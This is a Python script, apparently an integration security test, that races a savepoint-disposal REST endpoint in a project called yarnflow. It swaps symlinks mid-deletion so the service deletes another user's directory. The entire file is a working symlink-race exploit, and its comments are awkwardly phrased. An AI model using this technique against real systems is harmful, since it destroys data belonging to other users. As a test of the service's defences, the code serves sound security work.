"""Have a savepoint of this user's deleted by REST, and exchange the folder on its path while that is done.

    python -m integration.attack.programs.exchange_savepoint REST_URL FOLDER DIRECTORY ATTEMPTS

DIRECTORY is the one that is to be deleted in the savepoint's place; FOLDER is this user's, and has a
savepoint's manifest as manifest.json.
"""

from __future__ import annotations

import os
import shutil
import sys
from pathlib import Path
from typing import Final

from integration.attack.attacker import become_attacker
from integration.rest.client import Rest
from yarnflow.core.checkpoint.manifest import METADATA_FILE

become_attacker()

#: at the file between two questions about the operation
_LOOKS: Final = 20_000


def prepare(folder: Path, name: str, manifest: bytes) -> None:
    """Make a savepoint below a link to its folder."""
    link, savepoint = folder / "link", folder / "real" / name
    link.unlink(missing_ok=True)
    shutil.rmtree(savepoint, ignore_errors=True)
    # the cluster is to be able to delete all of it
    for directory in (savepoint.parent, savepoint):
        directory.mkdir(exist_ok=True)
        directory.chmod(0o777)
    (savepoint / METADATA_FILE).write_bytes(manifest)
    (savepoint / METADATA_FILE).chmod(0o666)
    link.symlink_to(savepoint.parent)


def exchange(rest: Rest, folder: Path, target: Path) -> str:
    """Ask for the deletion, and lead the path elsewhere once it has begun; returns what became of it."""
    next_link = folder / "next"
    next_link.unlink(missing_ok=True)
    next_link.symlink_to(target.parent)
    path = {"savepoint-path": f"file://{folder}/link/{target.name}"}
    trigger = rest.post("/savepoint-disposal", path, 200)["request-id"]
    manifest = f"{folder}/real/{target.name}/{METADATA_FILE}"
    # the way from one deletion to the next is short: nothing else is done meanwhile
    exists = os.path.exists
    looks = 0
    while exists(manifest):
        looks += 1
        if looks % _LOOKS:
            continue
        if rest.get(f"/savepoint-disposal/{trigger}")["status"]["id"] == "COMPLETED":
            break
    os.rename(next_link, folder / "link")
    return str(rest.completed(f"/savepoint-disposal/{trigger}"))


if __name__ == "__main__":
    url, own, victim, attempts = sys.argv[1:]
    content = (Path(own) / "manifest.json").read_bytes()
    for _ in range(int(attempts)):
        prepare(Path(own), Path(victim).name, content)
        print(exchange(Rest(url), Path(own), Path(victim)))
